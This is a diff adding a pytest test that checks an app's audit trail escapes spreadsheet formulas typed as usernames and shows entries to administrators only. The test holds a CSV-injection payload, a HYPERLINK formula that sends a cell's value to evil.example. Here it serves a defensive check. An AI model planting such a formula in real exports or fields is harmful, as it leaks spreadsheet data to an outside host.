@@ -75,3 +75,23 @@ def test_other_roles_see_no_admin_controls(users, role):
         assert what in infos
     assert not at.toggle and not [b for b in at.button if b.label in ("End session", "Map identity", "Unmap")]
     assert not [b for b in at.get("download_button")]
+
+
+def test_the_trail_is_read_by_admins_only_and_formulas_are_neutralised(users):
+    """Issue 22, hole 6 and the trail's read check: a username typed as a spreadsheet formula reaches the
+    admin's table and its CSV download with a leading apostrophe; viewers and auditors see no entries."""
+    from audit.services import throttle
+
+    throttle.reset()
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    with pytest.raises(auth.AuthError):
+        auth.authenticate(attack, "whatever-password", client="203.0.113.5")
+    at = _page(ADMIN).run()
+    assert not at.exception, at.exception
+    table = at.dataframe[-1].value
+    assert "'" + attack in table["actor"].tolist() and attack not in table["actor"].tolist()
+    for role in ("viewer", "auditor"):
+        at = _page(auth.Principal("someone", role)).run()
+        assert not at.exception, at.exception
+        assert "Only administrators read the audit trail." in [i.value for i in at.info]
+        assert not [d for d in at.dataframe if "actor" in d.value.columns]
